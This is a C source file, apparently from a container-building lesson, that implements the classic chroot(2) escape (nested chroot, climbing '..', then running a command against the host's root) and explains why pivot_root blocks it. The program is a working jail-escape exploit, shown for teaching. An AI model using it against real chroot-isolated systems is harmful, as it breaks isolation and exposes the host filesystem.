/* SPDX-License-Identifier: MIT
 *
 * The classic way out of chroot(2), for the lesson of stage 5:
 *
 *     sudo ./run --chroot -v build/escape:/tmp/escape /tmp/escape ls /
 *     sudo ./run          -v build/escape:/tmp/escape /tmp/escape ls /
 *
 * chroot(2) stores one directory at which ".." stops. A second chroot(2)
 * replaces it by a lower one, and does not change the working directory. The
 * process is then above the stored directory, and nothing stops "..".
 *
 * After pivot_root(2) the root of the container is the root of the mount
 * namespace. There is nothing above it that ".." could lead to.
 *
 * Exit status: COMMAND's (none: 0; exec fails: 127); 1: no way out; 2: error.
 */
#define _GNU_SOURCE
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
    char lower[] = "/tmp/escape-XXXXXX";
    struct stat before, after;

    if (stat("/", &before) == -1 || chdir("/") == -1)
        err(2, "/");
    if (!mkdtemp(lower))
        err(2, "%s", lower);
    if (chroot(lower) == -1)
        err(2, "chroot %s", lower);

    /* The working directory was the root and is now above the root: climb. */
    for (int i = 0; i < 100; i++)
        if (chdir("..") == -1)
            err(2, "chdir ..");
    if (chroot(".") == -1 || stat("/", &after) == -1)
        err(2, "chroot .");

    if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
        fprintf(stderr, "escape: no way out: / is what it was\n");
        return 1;
    }
    fprintf(stderr, "escape: out: / is now the host's\n");
    if (argc > 1) {
        execvp(argv[1], argv + 1);
        err(127, "%s", argv[1]);
    }
    return 0;
}
